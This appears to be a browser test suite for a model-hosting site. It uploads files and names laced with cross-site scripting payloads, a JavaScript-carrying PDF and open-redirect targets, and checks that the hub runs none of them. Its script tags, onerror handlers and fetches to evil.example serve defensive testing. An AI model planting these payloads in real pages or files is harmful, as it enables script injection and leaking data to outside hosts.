"""Content made to attack whoever looks at it, in a real browser: nothing runs or is fetched."""

import struct
import zlib

import pytest

from tests.hub.web.homes import safetensors
from tests.hub.web.test_markdown import ATTACKS

pytestmark = pytest.mark.browser

OWNED = "globalThis.owned = 1; alert(1); fetch('https://evil.example/')"
TAG = f'<script>{OWNED}</script><img src=x onerror="{OWNED.replace(chr(34), "")}">'
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{OWNED}"><script>{OWNED}</script>'
    '<image href="https://evil.example/pixel.png"/></svg>'
)
# PDF 1.7, 12.6.4.16: a script that runs when the document opens.
PDF = (
    b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
CHECK = "globalThis.owned === undefined"


@pytest.fixture(scope="module")
def hostile(site) -> str:
    """A repo of nothing but attacks; its address."""
    card = (
        "---\nlicense: '<img src=x onerror=alert(1)>'\ntags: ['<script>alert(1)</script>']\n---\n"
    )
    files = {
        "README.md": (card + "\n\n".join(ATTACKS) + f"\n\n{TAG}\n").encode(),
        "page.html": f"<!doctype html><body>{TAG}".encode(),
        "pic.svg": SVG.encode(),
        "paper.pdf": PDF,
        "shown.txt": TAG.encode(),
        "pic.png": _png(),
        "code.py": f'x = "{TAG}"'.encode(),
        "config.json": ('{"architectures": ["' + "<img src=x onerror=alert(1)>" + '"]}').encode(),
        "<img src=x onerror=alert(1)>.txt": b"a file whose name is markup\n",
        "model.safetensors": safetensors(
            {"<img src=x onerror=alert(1)>": ("F32", (2,), b"\0" * 8)}
        ),
    }
    site.home.repo("ada/hostile", files)
    return f"{site.url}/ada/hostile"


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        whole = kind + data
        return struct.pack(">I", len(data)) + whole + struct.pack(">I", zlib.crc32(whole))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0\0")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


@pytest.fixture
def victim(chromium, site):
    """A page that notes dialogs and requests to other hosts; none may come."""
    context = chromium.new_context(accept_downloads=True)
    page = context.new_page()
    page.seen = []
    page.on("dialog", lambda dialog: (page.seen.append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: (
            request.url.startswith((site.url, "data:", "blob:", "about:"))
            or page.seen.append(request.url)
        ),
    )
    yield page
    context.close()


PAGES = [
    "",
    "/tree/main",
    "/blob/main/README.md",
    "/blob/main/page.html",
    "/blob/main/pic.svg",
    "/blob/main/shown.txt",
    "/blob/main/code.py",
    "/blob/main/config.json",
    "/blob/main/model.safetensors",
    "/blob/main/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E.txt",
    "/tensors/main",
    "/commits/main",
    "/storage/main",
    "/weights/main",
    "/compare/main...main?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/blob/main/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
]


@pytest.mark.parametrize("path", PAGES)
def test_pages_about_hostile_content_run_none_of_it(victim, hostile, path):
    victim.goto(hostile + path, wait_until="networkidle")
    assert victim.evaluate(CHECK)
    assert victim.seen == []


@pytest.mark.parametrize("name", ["shown.txt", "pic.png", "config.json"])
def test_files_shown_by_themselves_run_nothing_and_have_no_origin(victim, hostile, name):
    victim.goto(f"{hostile}/resolve/main/{name}", wait_until="networkidle")
    assert victim.evaluate("globalThis.origin") == "null"
    assert victim.evaluate(CHECK)
    assert victim.seen == []
    if name == "pic.png":
        assert victim.evaluate("document.images[0].naturalWidth") == 1, "pictures can be seen"


@pytest.mark.parametrize("route", ["resolve", "raw"])
@pytest.mark.parametrize("name", ["page.html", "pic.svg", "paper.pdf"])
def test_files_that_could_run_are_saved_and_not_opened(victim, hostile, name, route):
    victim.goto(hostile)
    with victim.expect_download() as saved:
        victim.evaluate(f"location.href = '/ada/hostile/{route}/main/{name}'")
    assert saved.value.suggested_filename == name
    assert victim.url == hostile
    assert victim.seen == []


def test_what_slips_through_the_sanitiser_still_meets_the_policy(victim, hostile):
    """The second line: markup put into the page itself, as if sanitising had failed."""
    victim.goto(hostile)
    complaints, refused = [], {}
    victim.on("requestfailed", lambda request: refused.update({request.url: request.failure}))
    victim.on("console", lambda message: complaints.append(message.text))
    inserted = victim.evaluate(
        """(markup) => {
            try { document.body.insertAdjacentHTML('beforeend', markup); return 'inserted'; }
            catch (error) { return error.name; }
        }""",
        TAG,
    )
    assert inserted == "TypeError", "trusted types let no script turn text into markup"
    victim.evaluate(
        """() => {
            const add = (name, given) => {
                const made = document.createElement(name);
                for (const [key, value] of Object.entries(given)) made.setAttribute(key, value);
                document.body.append(made);
            };
            add('img', {src: 'https://evil.example/p.png'});
            add('iframe', {src: 'https://evil.example/'});
            add('link', {rel: 'stylesheet', href: 'https://evil.example/x.css'});
            add('form', {action: 'https://evil.example/', id: 'f'});
            document.getElementById('f').submit();
        }"""
    )
    victim.wait_for_timeout(300)
    assert victim.evaluate(CHECK)
    # Playwright tells of requests that the policy stops before they leave, and says that it did.
    assert set(victim.seen) == {"https://evil.example/p.png", "https://evil.example/x.css"}
    assert refused == dict.fromkeys(victim.seen, "csp")
    assert any("Content Security Policy" in text for text in complaints)


def test_no_other_site_may_frame_or_open_and_hold_a_page(chromium, site, hostile):
    context = chromium.new_context()
    page = context.new_page()
    page.set_content(f'<iframe src="{hostile}"></iframe>')
    page.wait_for_timeout(500)
    frame = page.frames[1]
    assert "hostile" not in frame.content()
    context.close()


@pytest.mark.parametrize(
    "target",
    [
        "https://evil.example/",
        "//evil.example",
        "/\\evil.example",
        "/%09/evil.example",
        "javascript:alert(1)",
    ],
)
def test_signing_in_leads_to_pages_of_this_hub_only(victim, site, target):
    from urllib.parse import quote

    victim.goto(f"{site.url}/login?next={quote(target, safe='')}")
    victim.locator("details.other-way summary").click()
    victim.locator("input[name=token]").fill(site.home.token)
    with victim.expect_navigation():
        victim.locator("input[name=token]").press("Enter")
    assert victim.url.startswith(f"{site.url}/")
    assert victim.seen == []
